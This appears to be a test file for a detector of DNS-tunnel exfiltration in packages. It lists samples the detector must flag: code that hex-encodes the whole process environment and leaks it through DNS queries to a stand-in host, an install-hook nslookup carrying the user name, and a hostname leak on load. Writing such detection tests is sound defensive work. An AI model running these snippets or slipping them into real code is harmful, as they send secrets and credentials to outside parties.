import { hooked, installed, loaded, testDetector } from "../../test/test-detector.ts";
import { dnsTunnel } from "./index.ts";

testDetector(dnsTunnel, {
  fires: {
    "pieces of the environment": [
      "decisive",
      installed(`const dns = require("dns");
        const text = Buffer.from(JSON.stringify(process.env)).toString("hex");
        for (let at = 0; at < text.length; at += 60) dns.resolveTxt(text.slice(at, at + 60) + ".collector.invalid", () => {});`),
    ],
    "nslookup in a hook": ["decisive", hooked("nslookup $(whoami).collector.invalid")],
    "the name of the host on loading": [
      "strong",
      loaded(`require("dns").lookup(require("os").hostname() + ".collector.invalid", () => {});`),
    ],
  },
  silent: {
    "a name that its caller gives": loaded(
      `module.exports = (name) => require("dns").promises.resolve(name + ".services.example");`,
    ),
    "a constant name": loaded(`require("dns").lookup("api.example", () => {});`),
  },
});
